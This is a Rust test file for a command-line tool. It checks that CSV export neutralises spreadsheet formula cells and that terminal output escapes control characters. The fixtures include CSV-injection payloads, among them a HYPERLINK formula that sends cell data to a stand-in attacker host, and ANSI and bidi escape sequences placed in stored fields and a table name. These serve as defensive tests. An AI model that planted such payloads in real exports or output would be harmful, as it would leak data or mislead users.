//! What the binary prints from stored data: CSV cells a spreadsheet would run are
//! neutralised (and `--csv-raw` is exact and round-trips through `import`), NDJSON and
//! `--json` are exact, and terminal output escapes control characters.

mod common;

use std::process::Output;

use common::{assert_args_ok, command, json_of, run_with_stdin, scratch_url, show, Schema};
use serde_json::{json, Value};

/// A fresh migrated database and a directory to run the binary in.
struct Db {
    url: String,
    dir: tempfile::TempDir,
}

impl Db {
    async fn new() -> Self {
        Db {
            url: scratch_url(Schema::Migrated).await,
            dir: tempfile::tempdir().expect("tempdir"),
        }
    }

    fn run(&self, args: &[&str], stdin: &str) -> Output {
        run_with_stdin(
            command(self.dir.path())
                .args(args)
                .args(["--database-url", &self.url]),
            stdin,
        )
    }

    fn ok(&self, args: &[&str], stdin: &str) -> String {
        assert_args_ok(args, &self.run(args, stdin))
    }

    /// Imports `records` (NDJSON) into `table`.
    fn import(&self, table: &str, records: &[Value]) {
        let text: String = records.iter().map(|r| format!("{r}\n")).collect();
        self.ok(&["import", table, "-"], &text);
    }
}

/// A valid interaction `n` asking `query`.
fn interaction(n: u32, query: &str) -> Value {
    json!({
        "id": format!("00000000-0000-7000-8000-{n:012}"),
        "timestamp": "2026-01-01T00:00:00Z",
        "assistant_mode": "customer",
        "user_query": query,
        "outcome": "resolved",
    })
}

/// Values a spreadsheet would run as formulas (or start one with).
const FORMULAS: [&str; 6] = [
    r#"=HYPERLINK("https://evil.example/?"&E2,"Refund")"#,
    "+1",
    "-2",
    "@SUM(1+1)",
    "\tcmd",
    "\rcmd",
];

/// The `user_query` cells of a CSV export, sorted.
fn csv_queries(text: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let column = reader
        .headers()
        .expect("header")
        .iter()
        .position(|h| h == "user_query")
        .expect("a user_query column");
    let mut cells: Vec<String> = reader
        .records()
        .map(|r| r.expect("record")[column].to_owned())
        .collect();
    cells.sort();
    cells
}

#[tokio::test]
async fn csv_export_neutralises_formulas_and_csv_raw_is_exact_and_round_trips() {
    let db = Db::new().await;
    let records: Vec<Value> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, q)| interaction(i as u32 + 1, q))
        .chain([interaction(99, "How do I pay my card?")])
        .collect();
    db.import("interactions", &records);

    let out = db.run(&["export", "interactions", "--format", "csv"], "");
    let text = assert_args_ok(&["export", "csv"], &out);
    let mut expected: Vec<String> = FORMULAS.iter().map(|q| format!("'{q}")).collect();
    expected.push("How do I pay my card?".to_owned());
    expected.sort();
    assert_eq!(csv_queries(&text), expected);
    let note = common::stderr(&out);
    assert!(
        note.contains("6 text cells start with =, +, -, @, tab or CR")
            && note.contains("--csv-raw"),
        "{note}"
    );

    let raw = db.ok(
        &["export", "interactions", "--format", "csv", "--csv-raw"],
        "",
    );
    let mut exact: Vec<String> = FORMULAS.iter().map(|q| (*q).to_owned()).collect();
    exact.push("How do I pay my card?".to_owned());
    exact.sort();
    assert_eq!(csv_queries(&raw), exact);

    // NDJSON is exact, always.
    let ndjson = db.ok(&["export", "interactions"], "");
    let mut queries: Vec<String> = ndjson
        .lines()
        .map(|l| json_of(l)["user_query"].as_str().expect("query").to_owned())
        .collect();
    queries.sort();
    assert_eq!(queries, exact);
    let refused = db.run(&["export", "interactions", "--csv-raw"], "");
    assert!(!refused.status.success(), "{}", show(&refused));
    assert!(
        common::stderr(&refused).contains("--csv-raw applies to CSV output only"),
        "{}",
        show(&refused)
    );

    // The raw CSV imports back to the very same rows.
    let copy = Db::new().await;
    let file = copy.dir.path().join("raw.csv");
    std::fs::write(&file, &raw).expect("write");
    copy.ok(&["import", "interactions", &file.to_string_lossy()], "");
    assert_eq!(copy.ok(&["export", "interactions"], ""), ndjson);
}

/// Characters that must not reach a terminal from stored text (line breaks are ours).
fn assert_no_controls(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect();
    assert!(bad.is_empty(), "{what} printed {bad:?}:\n{text:?}");
}

#[tokio::test]
async fn stored_text_is_escaped_on_the_terminal_and_exact_in_json() {
    let db = Db::new().await;
    let query = "before\u{1b}[2J\u{7}after\u{202e}drow";
    let mut record = interaction(1, query);
    record["intent_name"] = json!("intent\u{1b}]0;title\u{7}");
    record["response_text"] = json!("line1\r\u{8}\u{9b}31mx");
    record["citations"] =
        json!([{"number": 1, "source": "src\u{1b}[8m", "url": "https://x.example/\u{1b}"}]);
    db.import("interactions", &[record.clone()]);
    let id = record["id"].as_str().expect("id");

    let shown = db.ok(&["interactions", "show", id], "");
    assert_no_controls("interactions show", &shown);
    for escaped in [
        "before\\u{1b}[2J\\u{7}after\\u{202e}drow",
        "line1\\r\\u{8}\\u{9b}31mx",
        "src\\u{1b}[8m",
    ] {
        assert!(shown.contains(escaped), "{escaped} not in:\n{shown}");
    }
    let detail = json_of(&db.ok(&["interactions", "show", id, "--json"], ""));
    assert_eq!(detail["user_query"], query, "{detail}");
    assert_eq!(detail["response_text"], record["response_text"]);
    assert_eq!(detail["citations"], record["citations"]);

    let listed = db.ok(&["interactions", "list"], "");
    assert_no_controls("interactions list", &listed);
    assert!(listed.contains("before\\u{1b}[2J"), "{listed}");
    let page = json_of(&db.ok(&["interactions", "list", "--json"], ""));
    assert_eq!(page["items"][0]["user_query"], query);

    let report = db.ok(&["metrics"], "");
    assert_no_controls("metrics", &report);
    assert!(report.contains("intent\\u{1b}]0;title\\u{7}"), "{report}");

    // A refused value quoted in a bad-record line is escaped too.
    let bad = db.run(
        &["import", "interactions", "-"],
        "{\"assistant_mode\":\"\\u001b[2Jrobot\",\"user_query\":\"q\",\"outcome\":\"resolved\"}\n",
    );
    assert_eq!(bad.status.code(), Some(1), "{}", show(&bad));
    let err = common::stderr(&bad);
    assert_no_controls("import", &err);
    assert!(
        err.contains("line 1: invalid `assistant_mode`") && err.contains("\\u{1b}[2J"),
        "{err}"
    );
}

#[tokio::test]
async fn verify_escapes_the_names_it_finds() {
    let db = Db::new().await;
    let mut conn: sqlx::PgConnection = sqlx::Connection::connect(&db.url).await.expect("connect");
    sqlx::raw_sql("CREATE TABLE \"evil\u{1b}[2J\u{7}\" (x int)")
        .execute(&mut conn)
        .await
        .expect("table");
    let out = db.run(&["verify"], "");
    let text = common::stdout(&out);
    assert_no_controls("verify", &text);
    assert!(text.contains("evil\\u{1b}[2J\\u{7}"), "{}", show(&out));
}
